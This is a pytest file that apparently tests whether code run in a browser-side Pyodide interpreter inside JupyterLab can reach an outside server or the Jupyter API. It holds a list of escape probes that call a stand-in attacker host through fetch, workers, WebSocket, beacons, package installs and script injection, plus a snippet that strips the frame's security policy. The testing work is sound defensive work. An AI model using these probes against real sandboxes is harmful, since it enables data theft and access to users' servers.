"""Hostile code in the browser engine: it reaches neither a server of an attacker nor Jupyter."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.ui.attacker import listening_attacker
from tests.ui.browser import open_chromium
from tests.ui.browser_engine import browser_environment, new_chat, open_panel, run_code, text_of
from tests.ui.lab_server import LabServer, start_lab_server

pytestmark = pytest.mark.timeout(300)

JS = """
import js
from pyodide.ffi import to_js
def run_js(code):
    # evaluating text is forbidden by the policy; a worker of code's own runs what it likes
    source = js.Blob.new(to_js([code]))
    js.Worker.new(js.URL.createObjectURL(source))
def say(**message):
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
"""
WAIT = "\nimport asyncio\nawait asyncio.sleep(0.3)"

PROBES = {
    "fetch": "import js\njs.fetch('{evil}/fetch')" + WAIT,
    "fetch without cors": JS + "run_js(\"fetch('{evil}/no-cors', {{mode: 'no-cors'}})\")" + WAIT,
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch('{evil}/pyfetch')",
    "open_url": "from pyodide.http import open_url\nopen_url('{evil}/open-url')",
    "xhr": JS + "run_js(\"const x = new XMLHttpRequest(); x.open('GET', '{evil}/xhr', false); x.send()\")" + WAIT,
    "websocket": JS + "run_js(\"new WebSocket('{evil}/ws'.replace('http', 'ws'))\")" + WAIT,
    "eventsource": JS + "run_js(\"new EventSource('{evil}/es')\")" + WAIT,
    "beacon": JS + "run_js(\"navigator.sendBeacon('{evil}/beacon', 'x')\")" + WAIT,
    "importScripts": JS + "run_js(\"importScripts('{evil}/scripts.js')\")" + WAIT,
    "restored importScripts": JS
    + "run_js(\"WorkerGlobalScope.prototype.importScripts.call(self, '{evil}/again.js')\")"
    + WAIT,
    "dynamic import": JS + "run_js(\"import('{evil}/module.js').catch(() => 0)\")" + WAIT,
    "nested worker": JS + "run_js(\"new Worker('{evil}/worker.js')\")" + WAIT,
    "nested blob worker": JS
    + "run_js(\"new Worker(URL.createObjectURL(new Blob([`fetch('{evil}/nested')`])))\")"
    + WAIT,
    "font": JS + "run_js(\"new FontFace('f', 'url({evil}/font.woff)').load().catch(() => 0)\")" + WAIT,
    "navigation": JS + "run_js(\"self.location = '{evil}/navigate'\")" + WAIT,
    "open": JS + "run_js(\"self.open('{evil}/open')\")" + WAIT,
    "webrtc": JS
    + "run_js(\"new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:1'}}]}}).createDataChannel('x')\")"
    + WAIT,
    "webtransport": JS + "run_js(\"new WebTransport('{evil}/wt'.replace('http:', 'https:'))\")" + WAIT,
    "requests": "import requests\nrequests.get('{evil}/requests', timeout=2)",
    "urllib": "import urllib.request\nurllib.request.urlopen('{evil}/urllib', timeout=2)",
    "socket": "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
    "s.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')" + WAIT,
    "micropip": "import micropip\nawait micropip.install('{evil}/evil-1.0-py3-none-any.whl')",
    "loadPackage": "import pyodide_js\nawait pyodide_js.loadPackage('{evil}/evil.whl')",
    "jupyter by fetch": "import js\nawait js.fetch('{lab}api/contents', )",
    "jupyter with credentials": JS
    + "run_js(\"fetch('{lab}api/kernels', {{method: 'POST', credentials: 'include', mode: 'no-cors'}})\")"
    + WAIT,
    "jupyter by websocket": JS
    + "run_js(\"new WebSocket('{lab}codeinterp/api/v1/events'.replace('http', 'ws'))\")"
    + WAIT,
    "asset outside": JS
    + "for name in ('../../../api/contents', '/api/contents', '{evil}/asset', '..%2f..%2fapi', '__proto__'):\n"
    "    say(type='want', want=1_000_000, name=name)" + WAIT,
    "forged messages": JS + "say(type='end', run=999, outcome='{{}}', files=to_js([]))\n"
    "say(type='booted')\nsay(type='nonsense')\nsay(type='event', event='no json')",
    "html output": "from IPython.display import HTML, Javascript, display\n"
    "display(HTML('<img src={evil}/img><script src={evil}/script></script><iframe src={evil}/frame></iframe>'))\n"
    "display(Javascript(\"fetch('{evil}/js')\"))",
    "markdown output": "from IPython.display import Markdown, display\ndisplay(Markdown('![x]({evil}/md)'))",
    "evaluation": "from pyodide.code import run_js\nrun_js(\"fetch('{evil}/eval')\")" + WAIT,
    "storage": JS + "for name in ('localStorage', 'document', 'parent', 'top', 'cookieStore'):\n"
    "    print(name, 'there' if hasattr(js, name) else 'missing')",
}
"""Code by what it tries; each may fail as it likes."""

WITHOUT_POLICY = """
const frame = HTMLIFrameElement.prototype;
const { set } = Object.getOwnPropertyDescriptor(frame, 'srcdoc');
Object.defineProperty(frame, 'srcdoc', {
  set(text) { set.call(this, text.replace(/<meta http-equiv[^>]*>/, '')); }
});
"""
"""The test's own hole: what would be reached if the frame had no policy."""


async def attack(server: LabServer, name: str, *, policy: bool) -> tuple[list[str], str]:
    """Run every probe and return what the attacker saw, and what the probes printed."""
    said: list[str] = []
    with listening_attacker() as attacker:
        async with open_chromium(name) as (page, _):
            if not policy:
                await page.add_init_script(WITHOUT_POLICY)
            await page.goto(server.page_url())
            await page.locator(".jp-LauncherCard").first.wait_for(state="visible")
            await open_panel(page)
            chat = await new_chat(server)
            address = page.url
            evil = attacker.url
            values = {"evil": evil, "port": evil.rsplit(":", 1)[1], "lab": server.url}
            for code in PROBES.values():
                execution = await run_code(server, chat, code.format(**values))
                said.append(text_of(execution))
            assert page.url.split("?")[0] == address.split("?")[0]
            await asyncio.sleep(0.5)
            return list(attacker.paths), "".join(said)


@pytest.fixture(params=["/", "/user/zo%C3%AB/"], ids=["at the root", "behind a base URL"])
def victim(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[LabServer]:
    arguments = [f"--ServerApp.base_url={request.param}"]
    server = start_lab_server(tmp_path / "server", arguments, environment=browser_environment())
    yield server
    server.stop()


async def test_nothing_gets_out(victim: LabServer) -> None:
    hits, said = await attack(victim, "attacks", policy=True)
    log = victim.log_file.read_text()
    assert hits == []
    assert "api/contents" not in log.replace("api/contents?", "")
    assert "origin" not in log.lower()
    assert "document missing" in said
    assert "localStorage missing" in said


async def test_the_battery_can_see(tmp_path: Path) -> None:
    server = start_lab_server(tmp_path / "server", environment=browser_environment())
    try:
        hits, _ = await attack(server, "attacks-without-policy", policy=False)
    finally:
        server.stop()
    assert len(set(hits)) >= 5, hits
